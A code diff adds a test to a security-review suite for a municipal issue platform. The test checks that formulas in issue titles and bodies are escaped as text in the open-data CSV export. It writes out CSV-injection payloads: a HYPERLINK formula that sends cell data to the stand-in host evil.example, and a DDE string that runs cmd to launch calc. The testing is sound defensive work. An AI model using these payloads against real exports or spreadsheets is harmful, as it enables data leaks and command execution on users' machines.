@@ -297,6 +297,22 @@ describe('security review findings', () => {
     expect(page.text).not.toContain(me.displayName);
   });
 
+  it('a formula in an opted-in issue title comes out of the open-data CSV as text, not as a live formula', async () => {
+    const muni = await approvedMember(t, 'municipality', { municipalityCode: '27211' });
+    const title = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
+    await t
+      .http()
+      .post('/api/v1/issues')
+      .set(auth(muni.token))
+      .send(issueInput({ title, body: '@SUM(1+1)*cmd|" /C calc"!A0', status: 'published', openData: true }))
+      .expect(201);
+    const csv = (await t.http().get('/api/v1/open-data/issues.csv').buffer(true)).text;
+    const line = csv.split('\r\n').find((l) => l.includes('HYPERLINK'))!;
+    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`);
+    expect(line).toContain(`"'@SUM(1+1)*cmd|"" /C calc""!A0"`);
+    expect(line).not.toMatch(/(^|,)"[=+\-@]/);
+  });
+
   it("open data is the municipality's choice per issue: members only by default, released from the form, shown on the page", async () => {
     const muni = await approvedMember(t, 'municipality', { municipalityCode: '27212' });
     const browser = pageClient(t);
